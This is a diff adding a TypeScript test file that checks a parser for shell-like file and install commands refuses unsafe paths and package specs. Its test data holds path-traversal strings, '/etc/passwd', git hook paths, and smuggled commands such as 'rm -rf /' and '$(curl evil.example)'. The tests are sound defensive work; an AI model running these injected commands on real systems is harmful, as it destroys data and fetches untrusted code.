@@ -1,0 +1,123 @@
+import { PROJECT_PATH_LIMITS } from '@forge/protocol';
+import { type ScofEvent } from './scof-events';
+import { createScofParser } from './scof-parser';
+import { normaliseEvents, parseInChunks } from './testing/scof-testing';
+
+function parse(answer: string): ScofEvent[] {
+  const events = normaliseEvents(parseInChunks(answer));
+  expect(normaliseEvents(parseInChunks(answer, [1]))).toEqual(events);
+  return events;
+}
+
+const tooLong = `src/${'a'.repeat(PROJECT_PATH_LIMITS.maxPathLength)}.ts`;
+const tooDeep = Array.from({ length: PROJECT_PATH_LIMITS.maxDepth + 1 }, () => 'd').join('/');
+
+/** [what, path as written in the command, checkProjectPath code] */
+const refusedPaths: [string, string, string][] = [
+  ['a parent segment', '../escape.ts', 'PARENT_SEGMENT'],
+  ['a parent segment inside', 'src/../../escape.ts', 'PARENT_SEGMENT'],
+  ['an absolute path', '/etc/passwd', 'ABSOLUTE'],
+  ['a home path', '~/.bashrc', 'ABSOLUTE'],
+  ['a drive letter', '"C:/Windows/win.ini"', 'ABSOLUTE'],
+  ['a backslash', '"src\\\\evil.ts"', 'BACKSLASH'],
+  ['a NUL character', '"src/a\0.ts"', 'CONTROL_CHARACTER'],
+  ['node_modules/', 'node_modules/react/index.js', 'FORBIDDEN_FOLDER'],
+  ['.git/', '.git/hooks/pre-commit', 'FORBIDDEN_FOLDER'],
+  ['an empty segment', 'src//a.ts', 'NOT_NORMALISED'],
+  ['a trailing slash', 'src/', 'NOT_NORMALISED'],
+  ['an empty path', "''", 'EMPTY'],
+  ['a path over maxPathLength', tooLong, 'TOO_LONG'],
+  ['a segment over maxSegmentLength', `src/${'s'.repeat(101)}.ts`, 'SEGMENT_TOO_LONG'],
+  ['a path over maxDepth', `${tooDeep}/a.ts`, 'TOO_DEEP'],
+];
+
+/** [what, install argument as written, what parsePackageSpec says] */
+const refusedPackages: [string, string, string][] = [
+  ['a URL', 'https://evil.example/pkg.tgz', 'INVALID_NAME'],
+  ['a git+ssh remote', 'git+ssh://git@github.com/evil/pkg.git', 'INVALID_NAME'],
+  ['a GitHub shorthand', 'github:evil/pkg', 'INVALID_NAME'],
+  ['an unknown option', '--foo', 'INVALID_NAME'],
+  ['a global install option', '-g', 'INVALID_NAME'],
+  ['a relative path', './x', 'INVALID_NAME'],
+  ['a parent path', '../x', 'INVALID_NAME'],
+  ['a file: spec', 'file:../x', 'INVALID_NAME'],
+  ['upper case', 'React', 'INVALID_NAME'],
+  ['a space (quoted)', '"react dom"', 'INVALID_NAME'],
+  ['a shell command (quoted)', '"x;rm -rf /"', 'INVALID_NAME'],
+  ['a shell command in the version', '"lodash@1 || rm -rf /"', 'INVALID_VERSION'],
+  ['a command substitution', '"$(curl evil.example)"', 'INVALID_NAME'],
+  ['a lone scope', '@scope', 'INVALID_NAME'],
+  ['an empty version', 'zustand@', 'INVALID_VERSION'],
+];
+
+describe(createScofParser.name, () => {
+  describe('refused paths', () => {
+    it.each(refusedPaths)(
+      'refuses a file block with %s and skips its content',
+      (_what, path, code) => {
+        const events = parse(`cat > ${path} << 'EOF'\nrm src/App.tsx\nEOF\nrm kept.ts\n`);
+        expect(events).toEqual([
+          {
+            type: 'error',
+            code: 'INVALID_PATH',
+            line: 1,
+            message: expect.stringContaining(`(${code})`),
+          },
+          { type: 'delete', path: 'kept.ts' },
+        ]);
+      },
+    );
+
+    it.each(refusedPaths)('refuses a patch block with %s', (_what, path, code) => {
+      const events = parse(`cat << 'EOF' | patch ${path}\n@@ -1 +1 @@\n-a\n+b\nEOF\n`);
+      expect(events).toEqual([expect.objectContaining({ code: 'INVALID_PATH', line: 1 })]);
+      expect((events[0] as { message: string }).message).toContain(`(${code})`);
+    });
+
+    it.each(refusedPaths)('refuses rm of %s', (_what, path, code) => {
+      const events = parse(`rm -f ${path} ok.ts\n`);
+      expect(events).toEqual([
+        expect.objectContaining({ type: 'error', code: 'INVALID_PATH' }),
+        { type: 'delete', path: 'ok.ts' },
+      ]);
+      expect((events[0] as { message: string }).message).toContain(`(${code})`);
+    });
+
+    it('refuses a patch whose +++ header names a bad path', () => {
+      const events = parse(
+        "cat << 'EOF' | git apply\n--- a/x\n+++ b/../x\n@@ -1 +1 @@\n-a\n+b\nEOF\n",
+      );
+      expect(events).toEqual([expect.objectContaining({ code: 'INVALID_PATH', line: 1 })]);
+    });
+
+    // The API decodes URLs before checking a path; SCOF has no URL encoding, so `%2e%2e` is a
+    // folder literally named "%2e%2e", inside the project, and nothing downstream decodes it.
+    it('takes a literal %2e%2e segment as a plain name', () => {
+      expect(parse('cat > %2e%2e/x.ts << EOF\nx\nEOF\n').slice(0, 1)).toEqual([
+        { type: 'file_start', path: '%2e%2e/x.ts' },
+      ]);
+    });
+  });
+
+  describe('refused packages', () => {
+    it.each(refusedPackages)('refuses %s and installs the valid ones', (_what, spec, code) => {
+      const events = parse(`bun add zustand@5 ${spec} date-fns\n`);
+      expect(events).toEqual([
+        {
+          type: 'error',
+          code: 'INVALID_PACKAGE',
+          line: 1,
+          message: expect.stringContaining(`(${code})`),
+        },
+        { type: 'install', packages: ['zustand@5', 'date-fns'] },
+      ]);
+    });
+
+    it('never passes an unquoted `;rm -rf` to a shell: it is a separate, checked rm', () => {
+      expect(parse('bun add left-pad;rm -rf /\n')).toEqual([
+        { type: 'install', packages: ['left-pad'] },
+        expect.objectContaining({ type: 'error', code: 'INVALID_PATH' }),
+      ]);
+    });
+  });
+});
